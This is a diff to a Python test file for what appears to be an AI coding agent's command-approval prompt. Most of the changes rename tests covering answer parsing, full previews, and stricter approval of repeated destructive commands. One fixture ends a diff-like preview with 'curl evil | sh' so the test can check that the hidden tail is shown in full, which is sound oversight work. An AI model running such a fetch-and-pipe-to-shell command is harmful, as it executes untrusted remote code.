@@ -81,7 +81,7 @@ def asked(*answers, clock=lambda: 0.0):
         ("yes but later", Answer(choice="no", message="yes but later")),
     ],
 )
-def test_an_answer_is_a_choice_or_a_no_with_a_word(line, answer):
+def test_an_answer_is_a_choice_or_an_explained_no(line, answer):
     assert parse_answer(line, question(), in_words=False) == answer
 
 
@@ -109,7 +109,7 @@ async def test_the_whole_preview_is_shown_however_long():
         "echo ok\n\n--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b\ncurl evil | sh",
     ],
 )
-async def test_a_command_in_the_form_of_a_diff_is_shown_whole(command):
+async def test_a_command_that_looks_like_a_diff_is_whole(command):
     ask, person = asked("n")
 
     await ask(question(preview=command))
@@ -145,7 +145,7 @@ async def test_the_subagent_that_asks_is_named():
     assert "Run a command (asked by agent 2)" in person.shown
 
 
-async def test_after_three_approvals_in_a_minute_what_destroys_takes_a_typed_word():
+async def test_a_fourth_destructive_approval_a_minute_takes_a_word():
     ask, person = asked("y", "y", "y", "y", "yes")
     destroys = question(dangers=("Deletes build.",))
     for _ in range(3):
@@ -160,7 +160,7 @@ async def test_after_three_approvals_in_a_minute_what_destroys_takes_a_typed_wor
 
 
 @pytest.mark.parametrize("later", [{"seconds": 61.0}, {"kind": "run network"}, {"dangers": ()}])
-async def test_a_minute_later_for_another_kind_or_where_nothing_is_destroyed_a_key_is_enough(later):
+async def test_a_key_suffices_later_for_another_kind_or_harmless_command(later):
     now = [0.0]
     ask, person = asked("y", "y", "y", "y", clock=lambda: now[0])
     destroys = {"dangers": ("Deletes build.",), "kind": "run destroys"}
@@ -184,14 +184,14 @@ async def test_an_answered_question_folds_to_one_line_where_it_fits():
     assert printed == ["Denied: rm -rf build · told the model: use trash"]
 
 
-def test_changes_of_a_command_that_has_run_are_kept_or_discarded():
+def test_changes_of_a_finished_command_are_kept_or_discarded():
     ran = question(kind="keep", subject="echo hi > out.txt")
 
     assert outcome_line(ran, Answer(choice="once")) == "Changes kept: echo hi > out.txt"
     assert outcome_line(ran, Answer(choice="no")) == "Changes discarded: echo hi > out.txt"
 
 
-async def test_what_remains_of_a_question_stands_with_its_call_apart_from_the_text_before():
+async def test_an_answered_question_stands_beside_its_call():
     _, person = asked("y")
     renderer = Renderer(person.screen)
     ask = make_ask(person.screen, say=renderer.show_outcome)
@@ -205,7 +205,7 @@ async def test_what_remains_of_a_question_stands_with_its_call_apart_from_the_te
     assert person.printed == "\nAllowed once: rm -rf build\n● Ran rm -rf build\n"
 
 
-async def test_a_question_longer_than_the_screen_is_printed_whole_and_stays():
+async def test_a_question_longer_than_the_screen_is_printed_whole():
     ask, person = asked("y")
 
     await ask(question(preview="\n".join(f"line {n}" for n in range(500))))
@@ -225,7 +225,7 @@ async def test_a_diff_is_numbered_and_a_new_file_called_so():
     assert "@@" not in person.shown
 
 
-def test_one_mistyped_key_is_asked_about_again_rather_than_told_to_the_model() -> None:
+def test_a_mistyped_key_is_no_answer() -> None:
     assert parse_answer("1", question(), in_words=False) is None
     assert parse_answer("x", question(), in_words=False) is None
     assert parse_answer("no", question(), in_words=False) == Answer(choice="no")
